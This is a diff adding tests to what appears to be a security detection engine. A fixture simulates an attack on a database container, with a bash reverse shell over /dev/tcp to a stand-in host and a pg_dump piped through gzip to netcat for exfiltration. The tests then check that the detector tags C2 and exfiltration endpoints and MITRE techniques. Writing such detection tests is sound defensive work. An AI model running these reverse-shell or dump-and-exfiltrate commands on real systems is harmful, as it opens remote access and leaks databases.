@@ -234,3 +234,32 @@ def test_with_no_api_call_either_the_key_is_still_the_most_suspicious_process():
     (i,) = find_in(**_sidecar_reads_secrets(api_flows=False)).incidents
     assert i.key_command is not None and i.key_command.why.startswith("the most suspicious process")
     assert i.key_command.exec_id == "sh"  # 4 (a high rule, started by a service) as the sidecar: the later
+
+
+def _dump_piped_out(exfil_ip):
+    """A shell exec'd into db-0 calls home (203.0.113.9:4444, driven: commands after it), then runs
+    ``pg_dump | gzip | nc <exfil_ip> 9001``; nc runs 90 s."""
+    procs = [proc("shim", None, None, "/shim", "", 99 * S),
+             proc("sh", "shim", "db-0", "/bin/bash", "", 100 * S, init=False, exit_ns=300 * S),
+             proc("rsh", "sh", "db-0", "/bin/bash", "-c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'", 101 * S,
+                  init=False, exit_ns=300 * S),
+             proc("id", "rsh", "db-0", "/usr/bin/id", "", 110 * S, init=False, exit_ns=110 * S + MS),
+             proc("dump", "rsh", "db-0", "/usr/bin/pg_dump", "-Fc shop", 120 * S, init=False, exit_ns=209 * S),
+             proc("gz", "rsh", "db-0", "/bin/gzip", "-1", 120 * S + MS, init=False, exit_ns=209 * S),
+             proc("nc", "rsh", "db-0", "/usr/bin/nc", f"{exfil_ip} 9001", 120 * S + 2 * MS, init=False,
+                  exit_ns=210 * S)]
+    out = ("shop", "db-0")
+    flows = [flow("c2", 101 * S + 5 * MS, "rsh", out, None, 4444, dst_ip="203.0.113.9"),
+             flow("ex", 120 * S + 20 * MS, "nc", out, None, 9001, dst_ip=exfil_ip)]
+    return frames(procs, flows)
+
+
+def test_the_end_of_a_dump_pipeline_is_exfiltration_of_local_data_over_the_channels_host():
+    (i,) = find_in(**_dump_piped_out("203.0.113.9")).incidents
+    ends = {(e.ip, e.port): e.role for e in i.endpoints}
+    assert ends[("203.0.113.9", 9001)] == "exfil" and ends[("203.0.113.9", 4444)] == "c2"
+    assert {"T1005", "T1048", "T1041"} <= set(i.techniques)
+    assert i.techniques["T1005"] == ["engine:collect"]
+    (j,) = find_in(**_dump_piped_out("198.18.7.7")).incidents  # another host: not the C2's channel
+    assert {(e.ip, e.role) for e in j.endpoints} >= {("198.18.7.7", "exfil")}
+    assert "T1005" in j.techniques and "T1041" not in j.techniques
